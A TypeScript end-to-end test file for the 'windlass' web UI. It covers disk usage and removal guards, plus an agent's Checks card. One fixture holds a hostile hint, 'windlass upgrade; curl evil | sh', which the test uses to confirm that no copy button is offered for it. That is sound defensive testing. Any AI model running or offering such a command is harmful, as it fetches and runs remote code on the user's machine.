/** The disks of a runtime and the checks of an agent in Chromium, against a real server with a real agent. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { diskFacts, startDiskAgent, type DiskAgent } from '../../../packages/cli/test/fakes/disk-agent.ts'
import { openWebScene, type WebScene } from '../support/web-scene.ts'

let web: WebScene
let host: DiskAgent

beforeAll(async () => {
  web = await openWebScene()
  host = await startDiskAgent(web.server, [])
})

afterAll(async () => {
  await host[Symbol.asyncDispose]()
  await web[Symbol.asyncDispose]()
})

test('disks show use, last build and why a new one was made; one in use cannot be removed, a warm one can (W080)', async () => {
  const { admin } = web.server
  const build = await web.server.submit()
  host.disks.set('busy', diskFacts('busy', { state: 'in-use', buildId: build.id, freeBytes: 2 ** 29 }))
  host.disks.set('spare', diskFacts('spare', { uses: 3, whyNew: 'No disk fits: 1 in use.' }))
  await expect.poll(async () => (await admin.disks.list()).items.length).toBe(2)
  await using opened = await web.open()
  const { page, seen } = opened
  await page.goto('/runtimes/local/-/disks')
  const row = (name: string) =>
    page
      .getByRole('region', { name: 'Disks' })
      .getByRole('row')
      .filter({ has: page.getByText(name, { exact: true }) })
  const busy = row('busy')
  await busy.getByText('in use for', { exact: false }).waitFor()
  await busy.getByText('50 % used').waitFor()
  await expect.poll(() => busy.getByRole('link').getAttribute('href')).toBe(`/builds/${build.id}`)
  await row('spare').getByText('No disk fits: 1 in use.').waitFor()
  await row('spare').getByText('3 uses').waitFor()
  await page.getByText('2 disks, 2 GiB: 1 in use, 1 warm.').waitFor()
  await page.getByText('windlass get disks --runtime local').waitFor()
  const keep = page.getByRole('button', { name: 'Remove busy' })
  await expect.poll(() => keep.getAttribute('aria-disabled')).toBe('true')
  await keep.hover()
  await page.getByRole('tooltip').getByText(`Build ${build.number} uses the disk.`).waitFor()
  const dialog = page.getByRole('dialog')
  await page.getByRole('button', { name: 'Remove spare' }).click()
  await dialog.getByText('windlass delete disk spare').waitFor()
  await dialog.getByRole('button', { name: 'Remove the disk' }).click()
  await dialog.getByText('The disk was removed.').waitFor()
  await dialog.getByRole('button', { name: 'Close' }).click()
  await row('spare').waitFor({ state: 'detached' })
  expect(host.disks.has('spare')).toBe(false)
  expect(seen).toEqual([])
})

test('a disk that a build takes while the question is open is not removed, and the dialog names the build (W080)', async () => {
  const { admin } = web.server
  const build = await web.server.submit()
  host.disks.set('taken', diskFacts('taken'))
  await expect.poll(async () => (await admin.disks.list({ query: { state: 'warm' } })).items.length).toBe(1)
  await using opened = await web.open()
  const { page, seen } = opened
  await page.goto('/runtimes/local/-/disks')
  await page.getByRole('button', { name: 'Remove taken' }).click()
  host.disks.set('taken', diskFacts('taken', { state: 'in-use', buildId: build.id }))
  await expect.poll(async () => (await admin.disks.list({ query: { state: 'warm' } })).items.length).toBe(0)
  const dialog = page.getByRole('dialog')
  await dialog.getByRole('button', { name: 'Remove the disk' }).click()
  await dialog.getByRole('alert').getByText(`Build ${build.number} uses the disk taken.`).waitFor()
  expect(host.disks.has('taken')).toBe(true)
  expect(seen).toEqual([])
})

test('findings of the checks show with their fix, and *Check again* replaces them (W079)', async () => {
  await using opened = await web.open()
  const { page, seen } = opened
  await page.goto('/agents/agent')
  const card = page.getByRole('region', { name: 'Checks' })
  host.findings = [
    { check: 'rights', status: 'fail', message: 'Missing permission.', hint: 'Run `windlass runner upgrade`.', runtime: 'local' },
    { check: 'hostile', status: 'fail', message: 'Not what it seems.', hint: 'Run `windlass upgrade; curl evil | sh`.' },
  ]
  await card.getByRole('button', { name: 'Check again' }).click()
  const finding = card.getByRole('listitem').filter({ hasText: 'rights, local' })
  await finding.getByText('Missing permission.').waitFor()
  await finding.getByText('Run `windlass runner upgrade`.').waitFor()
  await finding.getByRole('button', { name: 'Copy the fix' }).waitFor()
  const hostile = card.getByRole('listitem').filter({ hasText: 'Not what it seems.' })
  expect(await hostile.getByRole('button', { name: 'Copy the fix' }).count()).toBe(0)
  await card.getByText('windlass doctor --agent agent').waitFor()
  host.findings = []
  await card.getByRole('button', { name: 'Check again' }).click()
  await finding.waitFor({ state: 'detached' })
  await card.getByText('Checked by the agent').waitFor()
  expect(seen).toEqual([])
})
